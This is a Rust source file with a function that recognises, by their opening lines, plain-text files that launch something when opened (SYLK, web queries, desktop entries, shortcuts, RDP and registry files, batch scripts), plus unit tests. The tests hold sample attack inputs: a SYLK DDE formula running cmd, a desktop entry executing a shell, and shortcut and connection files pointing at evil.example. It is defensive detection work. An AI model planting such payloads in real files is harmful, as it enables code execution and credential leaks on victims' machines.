//! Plain text that opens something when it is opened: links, queries, connections, settings, scripts. Such a file is told
//! by how it begins, whatever its name is: a spreadsheet program reads a SYLK file as such though it is called .csv.

/// How such files begin: with a line of this, blanks and remarks left out.
const FIRST_LINES: [&str; 14] = [
    "[internetshortcut]",
    "[internetshortcut.a]",
    "[internetshortcut.w]",
    "[desktop entry]",
    "[shell]",
    "[.shellclassinfo]",
    "[autorun]",
    "[oledb]",
    "[connection]",
    "[{000214a0-0000-0000-c000-000000000046}]",
    "regedit4",
    "xlodbc",
    "@echo off",
    "querytype=oledb",
];

/// Whether a text that begins so opens something. It is given in small letters.
pub fn opens(beginning: &str) -> bool {
    // A byte order mark, of whatever width.
    let beginning = beginning.trim_start_matches(['\u{feff}', '\u{fffd}']);
    let mut lines = beginning.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with([';', '#']));
    let Some(first) = lines.next() else { return false };
    let second = lines.next().unwrap_or_default();
    let third = lines.next().unwrap_or_default();
    FIRST_LINES.contains(&first)
        || first.starts_with("windows registry editor")
        || (first == "[version]" && second.starts_with("signature"))
        // A web query: WEB, its version, its address.
        || (first == "web" && second.bytes().all(|byte| byte.is_ascii_digit()) && third.contains("://"))
        // SYLK: a first record of its program, then records of cells, formats and the like.
        || (first.starts_with("id;p") && ["b;", "c;", "f;", "o;", "p;", "nn;", "e"].iter().any(|one| second.starts_with(one)))
        || is_connection(first)
        // A page with all that belongs to it, which Word opens as its own.
        || (first.starts_with("mime-version:") && beginning.contains("multipart/related"))
}

/// `full address:s:10.1.2.3`: a name, a letter for what it is, a value.
fn is_connection(line: &str) -> bool {
    let mut parts = line.splitn(3, ':');
    let name = parts.next().unwrap_or_default();
    let named = name.len() > 3 && name.bytes().all(|byte| byte.is_ascii_lowercase() || b" _".contains(&byte));
    named && matches!(parts.next(), Some("s" | "i" | "b")) && parts.next().is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_opens_something_is_known_by_its_beginning() {
        for text in [
            "id;pwxl;n;e\r\no;e\r\nc;x1;y1;k0;emsexcel\r\n",
            "id;p\nc;y1;x1;k\"=cmd|' /c calc'!a0\"\ne\n",
            "web\r\n1\r\nhttp://evil.example/q\r\n",
            "[desktop entry]\ntype=application\nexec=sh -c id\n",
            "# a remark\n\n[desktop entry]\n",
            "[internetshortcut]\r\nurl=file://evil.example/a\r\n",
            "[shell]\r\ncommand=2\r\niconfile=\\\\evil.example\\a\r\n",
            "[{000214a0-0000-0000-c000-000000000046}]\r\nprop3=19,2\r\n[internetshortcut]\r\n",
            "screen mode id:i:2\r\nfull address:s:evil.example\r\n",
            "full address:s:evil.example",
            "windows registry editor version 5.00\r\n",
            "regedit4\r\n",
            "; a remark\r\n[version]\r\nsignature=\"$chicago$\"\r\n",
            "[oledb]\r\n; everything after this\r\nprovider=sqloledb\r\n",
            "xlodbc\r\n1\r\ndriver=\r\n",
            "@echo off\r\ncalc.exe\r\n",
            "mime-version: 1.0\r\ncontent-type: multipart/related; boundary=x\r\n",
        ] {
            assert!(opens(text), "{text}");
        }
    }

    #[test]
    fn what_offices_write_opens_nothing() {
        for text in [
            "",
            "id,姓名\n1,张三\n",
            "id;姓名;单位\n1;张三;质安处\n",
            "id;phone;name\n1;2;3\n",
            "web 系统检查记录\n1\n",
            "web\n1\n2\n",
            "检查时间:s:上午\n",
            "10:30:00 开始检查\n",
            "[说明]\n一切正常\n",
            "[version]\n1.0\n",
            "# 检查记录\n- 一切正常\n",
            "mime-version: 1.0\ncontent-type: text/plain\n",
        ] {
            assert!(!opens(text), "{text}");
        }
    }
}
